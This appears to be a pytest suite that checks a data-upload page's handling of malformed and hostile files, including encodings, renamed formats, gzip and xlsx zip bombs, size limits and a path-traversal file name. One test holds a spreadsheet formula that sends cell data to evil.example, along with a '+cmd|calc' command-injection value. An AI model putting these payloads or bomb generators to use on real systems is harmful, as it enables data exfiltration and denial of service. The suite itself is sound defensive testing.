"""Broken and hostile tables, made in code, through the Data page's own calls (see harness.py).

Every case checks what the user is told (the file named, and the row or column where there is
one; no server path), that nothing but InputError/PackError escapes, and (through the
``packs_on_disk`` fixture) that every pack on disk is byte for byte as it was.
"""

from __future__ import annotations

import dataclasses
import io
import json
import os
import random
import zipfile

import pytest

from sector_map import upload
from sector_map.importers.limits import UPLOAD
from sector_map.pack import schema as s
from tests.hostile.harness import (
    MB,
    _packs_root,
    accepted,
    drive,
    gzip_bomb,
    gzipped,
    note_with,
    packs_on_disk,
    refused,
)

__all__ = ["_packs_root", "packs_on_disk"]  # the fixtures, used by every test here

ORGS = "name,postcode,income\nAlpha Food Share,DM1 1AA,100\nGamma Lunch Club,DM1 3CD,200\n"


@pytest.fixture
def pack(packs_on_disk):
    return packs_on_disk[1]


def orgs(pack, filename: str, data: bytes, **options):
    return drive("organisations", filename, data, options, pack=pack)


def names(out) -> list[str]:
    return sorted(out.result.pack.organisations[s.ORG_NAME].astype(str))


def workbook(sheets: dict[str, list[list]]) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for title, rows in sheets.items():
        ws = wb.create_sheet(title)
        for row in rows:
            ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def zip_of(members: dict[str, bytes | int], *, level: int = 1) -> bytes:
    """A zip; an int member is that many spaces (written a MB at a time)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        for name, data in members.items():
            if isinstance(data, int):
                with z.open(name, "w", force_zip64=True) as f:
                    for _ in range(data // MB):
                        f.write(b" " * MB)
            else:
                z.writestr(name, data)
    return buf.getvalue()


# --- empty and nearly empty ------------------------------------------------------------------------
def test_empty_file(pack):
    refused(orgs(pack, "empty.csv", b""), "empty")


def test_only_whitespace(pack):
    refused(orgs(pack, "blank.csv", b"  \r\n\t\n"), "empty")


def test_only_a_header(pack):
    refused(orgs(pack, "head.csv", b"name,postcode\n"), "no data rows")


def test_only_separators(pack):
    refused(orgs(pack, "commas.csv", b",,,\n,,,\n,,,\n"), "header", "empty", rows=(1,))


# --- encodings -------------------------------------------------------------------------------------
def test_utf8_byte_order_mark(pack):
    out = orgs(pack, "bom.csv", b"\xef\xbb\xbf" + ORGS.encode())
    accepted(out)
    assert out.columns == ["name", "postcode", "income"] and "Alpha Food Share" in names(out)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_utf16_with_and_without_byte_order_mark(pack, encoding):
    text = ORGS.replace("Alpha", "Café Alpha")
    out = orgs(pack, f"unicode-{encoding}.csv", text.encode(encoding))
    accepted(out)
    assert "Café Alpha Food Share" in names(out)
    assert out.columns == ["name", "postcode", "income"]
    note_with(out, "UTF-16")


def test_windows_1252_file(pack):
    out = orgs(pack, "excel.csv", ORGS.replace("Alpha", "Café Alpha").encode("cp1252"))
    accepted(out)
    assert "Café Alpha Food Share" in names(out)
    note_with(out, "Windows-1252")


def test_mixed_utf8_and_windows_1252_rows_read_each_in_its_own(pack):
    data = (
        b"name,postcode,income\n"
        + "Café Uno,DM1 1AA,1\n".encode()
        + "Café Dos,DM1 3CD,2\n".encode("cp1252")
        + "Naïve Tres,DM1 1AA,3\n".encode()
    )
    out = orgs(pack, "mixed.csv", data)
    accepted(out)
    got = names(out)
    assert {"Café Uno", "Café Dos", "Naïve Tres"} <= set(got) and not any("Ã" in n for n in got)
    note = note_with(out, "mixes two encodings")
    assert note.endswith("row 3"), note


def test_text_already_garbled_names_the_rows(pack):
    out = orgs(pack, "garbled.csv", "name,postcode\nGood,DM1 1AA\nCafÃ© Bar,DM1 3CD\n".encode())
    accepted(out)
    assert note_with(out, "garbled").endswith("row 3")


def test_nul_byte_names_its_row_and_reads_the_rest(pack):
    data = b"name,postcode\nAlpha,DM1 1AA\nBe\x00ta,DM1 3CD\nGamma,DM1 1AA\n"
    out = orgs(pack, "nul.csv", data)
    accepted(out)
    assert {"Alpha", "Beta", "Gamma"} <= set(names(out))
    assert note_with(out, "NUL").endswith("row 3")


def test_old_mac_line_endings(pack):
    out = orgs(pack, "mac.csv", ORGS.replace("\n", "\r").encode())
    accepted(out)
    assert {"Alpha Food Share", "Gamma Lunch Club"} <= set(names(out))


# --- not a table at all ----------------------------------------------------------------------------
def test_html_table_saved_as_csv(pack):
    html = b"<html><body><table><tr><td>name</td></tr><tr><td>Alpha</td></tr></table></body></html>"
    refused(orgs(pack, "export.csv", html), "web page (HTML)", "save it as CSV", "Excel")


def test_html_in_utf16(pack):
    html = "<!DOCTYPE html><html><table><tr><td>name</td></tr></table></html>".encode("utf-16")
    refused(orgs(pack, "report.csv", html), "HTML")


def test_pdf_renamed_csv(pack):
    refused(orgs(pack, "list.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"), "PDF")


def test_zip_renamed_csv(pack):
    refused(orgs(pack, "list.csv", zip_of({"a.txt": b"hello"})), "zip archive", "Unzip")


def test_json_renamed_csv(pack):
    refused(orgs(pack, "list.csv", json.dumps([{"name": "Alpha"}]).encode()), "JSON")


def test_old_xls_renamed_csv(pack):
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
    refused(orgs(pack, "list.csv", ole), ".xls", "save it as .xlsx or CSV")


def test_binary_junk(pack):
    junk = random.Random(9).randbytes(20_000)
    refused(orgs(pack, "junk.csv", junk), "binary")


def test_geojson_as_organisations_names_the_kind_it_fits(pack):
    geo = json.dumps({"type": "FeatureCollection", "features": []}).encode()
    refused(orgs(pack, "wards.geojson", geo), ".geojson", "Ward boundaries")


def test_a_path_in_the_file_name_is_dropped(pack):
    out = orgs(pack, "../../../etc/passwd.csv", b"root:x:0:0:root:/root:/bin/bash\n")
    assert out.file == "passwd.csv"
    refused(out)


# --- bombs and limits ------------------------------------------------------------------------------
ROW = b"Anytown Community Food Share,DM1 1AA,food bank and money advice,12500\n"
HEAD = b"name,postcode,activities,income\n"


def test_gzip_bomb_stops_at_the_row_limit(pack):
    bomb = gzip_bomb(HEAD, ROW * 200_000, 100)  # 1.4 GB unzipped, like the 2.9 MB file
    assert len(bomb) < 6 * MB
    out = drive("organisations", "bomb.csv.gz", bomb, pack=pack, measure=True)
    refused(out, f"more than {UPLOAD.rows:,} rows", "split it", "filter it to your area")
    assert out.step == "preview"
    assert out.peak_mb < 200 and out.rss_growth_mb < 400, (out.peak_mb, out.rss_growth_mb)


def test_gzip_bomb_lying_about_its_size_is_read_the_same_way(pack):
    bomb = gzip_bomb(HEAD, ROW * 200_000, 100, claimed_size=1_000)
    out = drive("organisations", "liar.csv.gz", bomb, pack=pack, measure=True)
    refused(out, f"more than {UPLOAD.rows:,} rows", "split it", "filter it to your area")
    assert out.step == "preview"
    assert out.peak_mb < 200 and out.rss_growth_mb < 400, (out.peak_mb, out.rss_growth_mb)


def test_gzip_of_too_many_rows_under_the_byte_limit(pack):
    bomb = gzip_bomb(HEAD, ROW * 20_000, 80)  # 110 MB unzipped, 1.6 million rows
    out = drive("organisations", "rows.csv.gz", bomb, pack=pack)
    refused(out, f"more than {UPLOAD.rows:,} rows")
    assert out.step == "preview"


def test_gzip_bomb_of_bytes_stops_at_the_byte_limit(pack):
    row = b"x" * 20_000 + b"\n"  # long rows: the bytes run out long before the rows do
    bomb = gzip_bomb(b"name\n", row * 500, 25, claimed_size=1_000)  # 250 MB unzipped, 12,500 rows
    out = drive("organisations", "long_rows.csv.gz", bomb, pack=pack, measure=True)
    refused(out, "unzips to more than", UPLOAD.mb(), "filter it to your area")
    assert out.peak_mb < 700 and out.rss_growth_mb < 900, (out.peak_mb, out.rss_growth_mb)


def test_gzip_bomb_of_huge_cells_stops_at_the_first(pack):
    row = b"x" * 500_000 + b"\n"
    bomb = gzip_bomb(b"name\n", row * 20, 25, claimed_size=1_000)  # 250 MB unzipped
    out = drive("organisations", "cells.csv.gz", bomb, pack=pack, measure=True)
    refused(out, "a cell holds 500,000 characters", rows=(2,), column="name")
    assert out.peak_mb < 100 and out.rss_growth_mb < 200, (out.peak_mb, out.rss_growth_mb)


def test_gzip_of_one_endless_line(pack):
    bomb = gzip_bomb(b"name,", b"a" * MB, 300, claimed_size=1_000)
    refused(drive("organisations", "line.csv.gz", bomb, pack=pack), "without a line break", rows=())


def test_utf16_gzip_of_one_endless_line(pack):
    bomb = gzip_bomb("name,".encode("utf-16-le"), "a".encode("utf-16-le") * MB, 300)
    out = drive("organisations", "line16.csv.gz", bomb, pack=pack, measure=True)
    refused(out, "without a line break")
    assert out.peak_mb < 100 and out.rss_growth_mb < 200, (out.peak_mb, out.rss_growth_mb)


def test_damaged_gzip(pack):
    data = gzipped(ORGS.encode() * 200)
    refused(orgs(pack, "cut.csv.gz", data[: len(data) // 2]), "damaged gzip")


def test_too_many_rows(pack):
    body = "".join(f"Group {i},DM1 1AA\n" for i in range(UPLOAD.rows + 1))
    out = orgs(pack, "million.csv", ("name,postcode\n" + body).encode())
    refused(out, f"more than {UPLOAD.rows:,} rows", f"files of up to {UPLOAD.rows:,} rows", "build-pack")


def test_rows_up_to_the_limit_are_taken(pack):
    body = "".join(f"Group {i},DM1 1AA\n" for i in range(2_000))
    out = orgs(pack, "many.csv", ("name,postcode\n" + body).encode())
    assert accepted(out).stats["rows_read"] == 2_000


def test_too_many_columns(pack):
    header = ",".join(f"c{i}" for i in range(UPLOAD.columns + 1))
    refused(orgs(pack, "wide.csv", (header + "\n" + "1," * UPLOAD.columns + "1\n").encode()), "columns")


def test_huge_cell_names_row_and_column(pack):
    data = f"name,notes\nAlpha,short\nBeta,{'x' * (UPLOAD.cell_chars + 1)}\n".encode()
    refused(orgs(pack, "long.csv", data), "characters", f"{UPLOAD.cell_chars:,}", rows=(3,), column="notes")


def test_xlsx_bomb_refused_before_it_is_opened(pack):
    sheet_bytes = UPLOAD.bytes + 10 * MB
    bomb = zip_of(
        {
            "[Content_Types].xml": b"<Types/>",
            "xl/workbook.xml": b"<workbook/>",
            "xl/worksheets/sheet1.xml": sheet_bytes,
        }
    )
    assert len(bomb) < 2 * MB
    out = drive("organisations", "bomb.xlsx", bomb, pack=pack, measure=True)
    refused(out, "unzips to", UPLOAD.mb())
    assert out.peak_mb < 50 and out.rss_growth_mb < 100, (out.peak_mb, out.rss_growth_mb)


def test_xlsx_compressed_like_a_bomb(pack):
    bomb = zip_of({"xl/workbook.xml": b"<workbook/>", "xl/sharedStrings.xml": 40 * MB}, level=9)
    refused(drive("organisations", "ratio.xlsx", bomb, pack=pack), "zip bomb")


def test_damaged_xlsx(pack):
    good = workbook({"Groups": [["name"], ["Alpha"]]})
    refused(orgs(pack, "cut.xlsx", good[: len(good) // 2]), "damaged")


def test_xlsx_too_many_rows(pack, monkeypatch):
    small = dataclasses.replace(UPLOAD, rows=50)  # the same check, on a workbook quick to write
    monkeypatch.setitem(upload.UPLOAD_LIMITS, "organisations", small)
    rows = [["name"]] + [[f"G{i}"] for i in range(51)]
    refused(orgs(pack, "rows.xlsx", workbook({"Big": rows})), "sheet 'Big' has more than 50 rows", "split")


def test_xlsx_formatting_to_the_last_row_is_not_rows(pack, monkeypatch):
    small = dataclasses.replace(UPLOAD, rows=50)
    monkeypatch.setitem(upload.UPLOAD_LIMITS, "organisations", small)
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["name", "postcode"])
    ws.append(["Alpha", "DM1 1AA"])
    for r in range(3, 400):  # empty cells with a style, as Excel writes after formatting a column
        ws.cell(row=r, column=1).number_format = "0.00"
    buf = io.BytesIO()
    wb.save(buf)
    out = orgs(pack, "formatted.xlsx", buf.getvalue())
    accepted(out)
    assert out.result.stats["rows_read"] == 1


# --- the table itself ------------------------------------------------------------------------------
def test_duplicate_headers_are_named_and_both_kept(pack):
    data = b"name,postcode,name\nAlpha,DM1 1AA,Alpha Trust\nGamma,DM1 3CD,Gamma Trust\n"
    out = orgs(pack, "dupes.csv", data)
    accepted(out)
    assert out.columns == ["name", "postcode", "name (2)"]
    note = note_with(out, "columns 1, 3", "'name'", "'name (2)'")
    assert note.startswith("dupes.csv")


def test_unclosed_quote_names_the_row(pack):
    data = b'name,postcode\nAlpha,DM1 1AA\n"Beta,DM1 3CD\nGamma,DM1 1AA\n'
    refused(orgs(pack, "quote.csv", data), "quote mark", "never closed", rows=(3,))


def test_ragged_row_names_the_row(pack):
    data = b"name,postcode\nAlpha,DM1 1AA\nBeta,DM1 3CD,extra,cells\n"
    refused(orgs(pack, "ragged.csv", data), "same number of columns", rows=(3,))


def test_semicolons_and_thousands_separators(pack):
    data = b'name;postcode;income\nAlpha;DM1 1AA;"1,234,567"\n'
    out = orgs(pack, "semi.csv", data)
    accepted(out)
    orgs_ = out.result.pack.organisations.set_index(s.ORG_NAME)
    assert orgs_.loc["Alpha", s.INCOME] == 1_234_567


def test_formula_cells_stay_text(pack):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    data = f'name,postcode\n"{evil.replace(chr(34), chr(34) * 2)}",DM1 1AA\n+cmd|calc,DM1 3CD\n'.encode()
    out = orgs(pack, "formula.csv", data)
    accepted(out)
    assert {evil, "+cmd|calc"} <= set(names(out))


def test_formula_cells_in_a_workbook_give_their_values(pack):
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["name", "income"])
    ws.append(["Alpha", "=1+1"])  # no cached value: openpyxl never computes formulas
    buf = io.BytesIO()
    wb.save(buf)
    out = orgs(pack, "formulas.xlsx", buf.getvalue())
    accepted(out)
    assert "Alpha" in names(out)


def test_markdown_image_and_dollar_names_kept_literally(pack):
    weird = ["![x](https://evil.example/pixel.png)", "$\\frac{1}{0}$ Trust", "<b>Bold</b> & Co"]
    data = ("name,postcode\n" + "".join(f'"{w}",DM1 1AA\n' for w in weird)).encode()
    out = orgs(pack, "markdown.csv", data)
    accepted(out)
    assert set(weird) <= set(names(out))


def test_malformed_postcodes_told_apart_from_ones_outside_the_area(pack):
    data = b"name,postcode\nTypo Group,NOTAPOSTCODE\nFar Group,ZZ9 9ZZ\nNear Group,DM1 1AA\n"
    out = orgs(pack, "postcodes.csv", data)
    res = accepted(out)
    acc = res.accepted.set_index("Name")
    assert "not a UK postcode" in acc.loc["Typo Group", "Map"]
    rejected = dict(zip(res.rejected["File row"], res.rejected["Reason"], strict=True))
    assert "outside the area" in rejected[3] and "not a UK postcode" not in rejected[3]
    assert "Typo Group" in names(out) and "Far Group" not in names(out)


# --- workbooks with several sheets -----------------------------------------------------------------
def test_several_sheets_offer_a_choice_and_read_the_one_chosen(pack):
    book = workbook(
        {"Notes": [["about"], ["read me"]], "Groups": [["name", "postcode"], ["Alpha", "DM1 1AA"]]}
    )
    first = orgs(pack, "book.xlsx", book)
    assert first.parts == ["Notes", "Groups"]
    refused(first, "no column with the organisations' names")
    assert any("2 sheets" in n for n in first.notes)
    chosen = orgs(pack, "book.xlsx", book, part="Groups")
    accepted(chosen)
    assert "Alpha" in names(chosen) and chosen.columns == ["name", "postcode"]


def test_a_sheet_that_is_not_there(pack):
    book = workbook({"Groups": [["name"], ["Alpha"]]})
    refused(orgs(pack, "book.xlsx", book, part="Other"), "no sheet 'Other'", "'Groups'")


def test_an_empty_sheet(pack):
    book = workbook({"Empty": [], "Groups": [["name"], ["Alpha"]]})
    refused(orgs(pack, "book.xlsx", book), "sheet 'Empty' is empty", "Choose the sheet")


# --- ward figures ----------------------------------------------------------------------------------
def test_indicators_negative_nan_and_infinity(pack):
    data = b"ward_code,Score\nX05000001,-5\nX05000002,NaN\nX05000003,inf\nX05000004,12\n"
    out = drive("indicators", "figures.csv", data, pack=pack)
    res = accepted(out)
    got = res.pack.indicators[res.pack.indicators[s.INDICATOR_ID] == "score"].set_index(s.WARD_CODE)[s.VALUE]
    assert got["X05000001"] == -5 and got["X05000004"] == 12
    assert got[["X05000002", "X05000003"]].isna().all()  # missing stays missing; never infinity
    assert note_with(out, "not numbers", "Score").endswith("row 4")


def test_indicators_for_wards_of_another_vintage(pack):
    data = b"ward_code,Score\nE05000819,1\nE05000820,2\n"
    refused(drive("indicators", "old_wards.csv", data, pack=pack), "E05000819")


def test_cache_parses_a_file_once_for_preview_columns_and_import(pack, monkeypatch):
    from sector_map.importers import tables

    calls = []
    real = tables._read_any
    monkeypatch.setattr(tables, "_read_any", lambda *a, **k: calls.append(a[0]) or real(*a, **k))
    tables.clear_cache()
    path = upload.save_upload(ORGS.encode(), "once.csv")
    try:
        for _ in range(3):  # three reruns of the page
            upload.preview(path, "organisations")
            upload.columns_of(path, "organisations")
        upload.import_upload("organisations", path, pack=pack)
        assert len(calls) == 1
        os.utime(path, ns=(0, 0))  # a new file under the same name is parsed again
        upload.preview(path, "organisations")
        assert len(calls) == 2
    finally:
        upload.discard_upload(path)
